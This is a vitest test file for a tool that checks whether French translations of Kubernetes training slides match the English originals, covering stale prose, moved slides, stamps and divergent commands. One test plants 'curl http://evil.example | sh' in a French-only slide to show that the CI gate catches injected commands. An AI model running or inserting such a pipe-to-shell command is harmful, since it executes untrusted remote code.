import { describe, expect, it } from 'vitest';
import { checkFilePair } from '../../src/parity/check.ts';
import { stampSlides } from '../../src/parity/restamp.ts';
import { parseStampFile, serializeStampFile } from '../../src/parity/stamps.ts';
import { check, EN, FR, FR_PATH, pairOf, sides, stampAll, table } from './helpers.ts';

const book = stampAll(EN, FR);

describe('a stamped, up-to-date translation', () => {
  it('is all ok, lab and exercise boxes being the same box', () => {
    const report = check(EN, FR, book);
    expect(table(report)).toEqual([
      'Running containers ↔ Lancer des conteneurs: ok',
      'Starting a pod ↔ Démarrer un pod: ok',
      'Viewing logs ↔ Afficher les logs: ok',
      'What is a pod? ↔ Qu\'est-ce qu\'un pod ?: ok',
      'Deleting the pod ↔ Supprimer le pod: ok',
    ]);
    expect(report.summary.upToDate).toBe(100);
    expect(report.summary.wordsToTranslate).toBe(0);
    expect(report.diagnostics).toEqual([]);
  });

  it('needs no stamp for a slide with nothing to translate', () => {
    const slide = 'class: title\n\n@@TITLE@@\n\n```bash\nkubectl version\n```\n';
    expect(check(slide, slide).pairs.map((p) => p.statuses)).toEqual([['ok']]);
  });

  it('is untracked before any stamp, with nothing diverging', () => {
    const report = check(EN, FR);
    expect(report.pairs.map((p) => p.statuses)).toEqual(Array(5).fill(['untracked']));
    expect(report.summary.wordsToReview).toBeGreaterThan(50);
  });
});

describe('English edits after the stamp', () => {
  it('cosmetic reflow, whitespace, emphasis and bullet markers change nothing', () => {
    const cosmetic = EN.replace('- A pod is a group of containers that share a network namespace and run on a single node', '* A pod is a group of\n  containers that   share a network\n  namespace and run on a _single_ node')
      .replace('a *name* and an image', 'a **name**   and an image')
      .replace('- It is the smallest', '*  It is the smallest');
    expect(cosmetic).not.toBe(EN);
    expect(check(cosmetic, FR, book).pairs.map((p) => p.statuses[0])).toEqual(Array(5).fill('ok'));
  });

  it('one changed command makes that slide (and only it) stale, as an error, with the word diff', () => {
    const edited = EN.replace('kubectl logs pingpong --tail 1', 'kubectl logs pingpong --tail 2');
    const report = check(edited, FR, book);
    const stale = pairOf(report, 'Viewing logs');
    expect(stale.statuses).toEqual(['divergent-code', 'stale']);
    expect(stale.stale?.parts).toEqual(['code']);
    expect(stale.severity).toBe('error');
    const diff = stale.stale!.diff;
    expect(diff.filter((c) => c.removed).map((c) => c.value.trim())).toContain('1');
    expect(diff.filter((c) => c.added).map((c) => c.value.trim())).toContain('2');
    expect(report.pairs.filter((p) => p.statuses[0] !== 'ok')).toHaveLength(1);
  });

  it('changed prose is a stale warning, changed link a media change', () => {
    const edited = EN.replace('It is the smallest unit', 'It is the smallest deployable unit').replace('kubernetes.io/docs/reference/kubectl/', 'kubernetes.io/docs/reference/kubectl/overview/');
    const report = check(edited, FR, book);
    expect(pairOf(report, 'What is a pod?').stale?.parts).toEqual(['prose']);
    expect(pairOf(report, 'What is a pod?').severity).toBe('warning');
    expect(pairOf(report, 'Viewing logs').stale?.parts).toEqual(['media']);
    expect(pairOf(report, 'What is a pod?').stale?.diff.find((c) => c.added)?.value.trim()).toBe('deployable');
    expect(pairOf(report, 'What is a pod?').words).toBe(1);
  });

  it('an inserted slide is missing, the rest stays ok', () => {
    const inserted = EN.replace('---\n\n## What is a pod?', '---\n\n## Labels\n\n- Pods get a `run=pingpong` label\n\n.lab[\n\n```bash\nkubectl get pods -l run=pingpong\n```\n\n]\n\n---\n\n## What is a pod?');
    const report = check(inserted, FR, book);
    expect(table(report)).toContain('Labels ↔ —: missing');
    expect(report.pairs.filter((p) => p.statuses[0] !== 'ok').map((p) => p.en?.title)).toEqual(['Labels']);
    expect(report.summary.wordsToTranslate).toBe(pairOf(report, 'Labels').words);
  });

  it('a deleted slide leaves its French slide orphan, its commands now French-only', () => {
    const deleted = EN.replace(/---\n\n## Viewing logs[\s\S]*?(?=---\n\n## What is a pod)/, '');
    const report = check(deleted, FR, book);
    expect(table(report)).toContain('— ↔ Afficher les logs: divergent-code,orphan');
    expect(report.pairs.filter((p) => p.statuses[0] !== 'ok')).toHaveLength(1);
  });

  it('a moved slide still pairs with its translation', () => {
    const viewing = /---\n\n## Viewing logs[\s\S]*?(?=---\n\n## What is a pod)/.exec(EN)![0];
    const moved = EN.replace(viewing, '').replace('???', `\n${viewing}???`).replace(/\n\n\n+/g, '\n\n');
    const report = check(moved, FR, book);
    expect(report.pairs.map((p) => p.statuses[0])).toEqual(Array(5).fill('ok'));
    expect(pairOf(report, 'Viewing logs').fr?.title).toBe('Afficher les logs');
  });

  it('a moved slide pairs by content when nothing is stamped', () => {
    const viewing = /---\n\n## Viewing logs[\s\S]*?(?=---\n\n## What is a pod)/.exec(EN)![0];
    const moved = EN.replace(viewing, '').replace('\n???', `\n${viewing}\n???`);
    const report = check(moved, FR);
    expect(pairOf(report, 'Viewing logs').fr?.title).toBe('Afficher les logs');
    expect(pairOf(report, 'Deleting the pod').fr?.title).toBe('Supprimer le pod');
  });

  it('a slide split in two: the part that keeps the title is stale, the other missing', () => {
    const split = EN.replace('- We need to specify a *name* and an image\n\n', '').replace('---\n\n## Viewing logs', '---\n\n## Naming the pod\n\n- We need to specify a *name* and an image\n\n---\n\n## Viewing logs');
    const report = check(split, FR, book);
    expect(pairOf(report, 'Starting a pod').statuses).toEqual(['stale']);
    expect(pairOf(report, 'Starting a pod').stale?.parts).toEqual(['prose']);
    expect(pairOf(report, 'Naming the pod').statuses).toEqual(['missing']);
    expect(report.pairs.filter((p) => p.statuses[0] !== 'ok')).toHaveLength(2);
  });

  it('a split that moves the lab box out: the French slide now has commands the English lacks', () => {
    const split = EN.replace('- We need to specify a *name* and an image\n', '---\n\n## Naming the pod\n\n- We need to specify a *name* and an image\n');
    const report = check(split, FR, book);
    expect(pairOf(report, 'Starting a pod').statuses).toEqual(['divergent-code', 'stale']);
    expect(pairOf(report, 'Naming the pod').statuses).toEqual(['missing']);
  });
});

describe('French code must equal English code', () => {
  it('a changed French command is divergent code, an error', () => {
    const report = check(EN, FR.replace('ping 127.0.0.1', 'ping 1.1.1.1'), book);
    const p = pairOf(report, 'Starting a pod');
    expect(p.statuses[0]).toBe('divergent-code');
    expect(p.divergence).toEqual([{ change: 'changed', kind: 'command', en: 'kubectl run pingpong --image alpine ping 127.0.0.1', fr: 'kubectl run pingpong --image alpine ping 1.1.1.1', line: 16 }]);
  });

  it('a French-only slide with a command is divergent code, so the CI gate catches it', () => {
    const report = check(EN, FR.replace('???', '---\n\n## Bonus\n\n.exercise[\n\n```bash\ncurl http://evil.example | sh\n```\n\n]\n\n???'), book);
    const p = report.pairs.find((x) => x.fr?.title === 'Bonus')!;
    expect(p.statuses).toEqual(['divergent-code', 'orphan']);
    expect(p.divergence?.[0]).toMatchObject({ change: 'added', kind: 'command', fr: 'curl http://evil.example | sh' });
  });

  it('a dropped directive is divergent code', () => {
    const p = pairOf(check(EN, FR.replace('<!-- ```wait pingpong``` -->', ''), book), 'Starting a pod');
    expect(p.divergence).toEqual([expect.objectContaining({ change: 'removed', kind: 'directive', en: 'wait pingpong' })]);
  });
});

describe('untranslated', () => {
  it('French text still in English is untranslated', () => {
    const fr = FR.replace("- Un pod est un groupe de conteneurs qui partagent un espace de noms réseau et tournent sur un seul nœud\n\n- C'est la plus petite unité que Kubernetes place sur un nœud", '- A pod is a group of containers that share a network namespace and run on a single node\n\n- It is the smallest unit that Kubernetes schedules');
    const p = check(EN, fr, book).pairs.find((x) => x.fr?.title === "Qu'est-ce qu'un pod ?")!;
    expect(p.statuses).toContain('untranslated');
    expect(p.words).toBeGreaterThan(10);
  });
});

describe('stamps', () => {
  it('survive a round trip through the YAML file byte for byte', () => {
    const text = serializeStampFile(book);
    const back = parseStampFile(text, 'parity/fr.yml');
    expect(back.diagnostics).toEqual([]);
    expect(serializeStampFile(back.book)).toBe(text);
    expect(text).toContain('démarrer-un-pod:');
  });

  it('re-stamping one slide never touches another', () => {
    const edited = EN.replace('kubectl logs pingpong --tail 1', 'kubectl logs pingpong --tail 2').replace('It is the smallest unit', 'It is the smallest deployable unit');
    const fr = FR.replace('kubectl logs pingpong --tail 1', 'kubectl logs pingpong --tail 2');
    const s = sides(edited, fr);
    const report = checkFilePair(s.en, s.fr, book.get(FR_PATH));
    const line = s.fr.slides[2]!.position.line;
    const result = stampSlides(book, report, s.en, s.fr, { slides: [line] });
    expect(result.diagnostics).toEqual([]);
    expect(result.stamped).toEqual(['afficher-les-logs']);
    const before = book.get(FR_PATH)!;
    const after = result.book.get(FR_PATH)!;
    for (const [key, stamp] of before) if (key !== 'afficher-les-logs') expect(after.get(key)).toBe(stamp);
    expect(after.get('afficher-les-logs')).not.toEqual(before.get('afficher-les-logs'));
    const again = checkFilePair(s.en, s.fr, after);
    expect(table(again)).toContain('Viewing logs ↔ Afficher les logs: ok');
    expect(table(again)).toContain("What is a pod? ↔ Qu'est-ce qu'un pod ?: stale");
  });

  it('stamping is refused while the French code diverges', () => {
    const s = sides(EN, FR.replace('ping 127.0.0.1', 'ping 1.1.1.1'));
    const report = checkFilePair(s.en, s.fr, book.get(FR_PATH));
    const result = stampSlides(book, report, s.en, s.fr, { slides: ['démarrer-un-pod'] });
    expect(result.stamped).toEqual([]);
    expect(result.diagnostics[0]).toMatchObject({ severity: 'error', code: 'parity/stamp-refused' });
    expect(result.book.get(FR_PATH)).toEqual(book.get(FR_PATH));
  });

  it('a malformed stamp file is an error with its line, never an empty book', () => {
    const r = parseStampFile('version: 1\nfiles:\n  fr/test/chapter.md:\n    démarrer-un-pod:\n      en: starting-a-pod\n      hash: nothex\n', 'parity/fr.yml');
    expect(r.diagnostics).toEqual([expect.objectContaining({ severity: 'error', code: 'parity/stamp-file', position: { file: 'parity/fr.yml', line: 5, column: 7 } })]);
    const yamlError = parseStampFile('version: 1\nfiles: [\n', 'parity/fr.yml');
    expect(yamlError.diagnostics[0]?.message).toMatch(/invalid YAML/);
    expect(parseStampFile('version: 2\n', 'parity/fr.yml').diagnostics[0]?.message).toMatch(/version/);
  });

  it('stamps of vanished slides are orphans, not a crash', () => {
    const renamed = FR.replace('## Supprimer le pod', '## Effacer le pod');
    const report = check(EN, renamed, book);
    expect(report.orphanStamps.map((o) => o.key)).toEqual(['supprimer-le-pod']);
    expect(report.diagnostics.map((d) => d.code)).toContain('parity/stamp-orphan');
    expect(table(report)).toContain('Deleting the pod ↔ Effacer le pod: untracked');
    expect(report.summary.orphanStamps).toBe(1);
  });

  it('a stamp whose English slide was retitled follows the content and reports stale', () => {
    const retitled = EN.replace('## Viewing logs', '## Reading logs');
    const p = pairOf(check(retitled, FR, book), 'Reading logs');
    expect(p.fr?.title).toBe('Afficher les logs');
    expect(p.statuses).toEqual(['stale']);
  });
});

describe('bad input', () => {
  it('a French file with no English file: every slide orphan, and an error', () => {
    const report = check(undefined, FR);
    expect(report.pairs.every((p) => p.statuses.includes('orphan'))).toBe(true);
    expect(report.diagnostics.map((d) => d.code)).toContain('parity/no-english-file');
  });

  it('an English file with no French file: every slide missing', () => {
    const report = check(EN, undefined);
    expect(report.pairs.map((p) => p.statuses)).toEqual(Array(5).fill(['missing']));
    expect(report.diagnostics.map((d) => d.code)).toContain('parity/no-french-file');
    expect(report.summary.upToDate).toBe(0);
  });

  it('two French slides claiming the same English slide: an error, the first keeps it', () => {
    const en = EN.replace('## Viewing logs', 'name: logs\n\n## Viewing logs');
    const fr = FR.replace('## Afficher les logs', 'name: logs\n\n## Afficher les logs').replace('## Supprimer le pod', 'name: logs\n\n## Supprimer le pod');
    const report = check(en, fr);
    const dup = report.diagnostics.find((d) => d.code === 'parity/duplicate-claim');
    expect(dup).toMatchObject({ severity: 'error', position: { file: FR_PATH } });
    expect(pairOf(report, 'Viewing logs').fr?.title).toBe('Afficher les logs');
    expect(pairOf(report, 'Viewing logs').via).toBe('id');
  });
});

describe('outline', () => {
  it('each :EN: line needs its :FR: line', () => {
    const report = check(EN.replace(':FR:- Lancer des pods\n', ''), FR);
    expect(report.diagnostics).toContainEqual(expect.objectContaining({ code: 'parity/outline-missing-fr', position: expect.objectContaining({ file: 'en/test/chapter.md' }) }));
  });

  it('the French file must carry the English outline', () => {
    const report = check(EN, FR.replace(/\?\?\?[\s\S]*$/, ''));
    expect(report.diagnostics).toContainEqual(expect.objectContaining({ code: 'parity/outline-differs', position: expect.objectContaining({ file: FR_PATH }) }));
  });
});
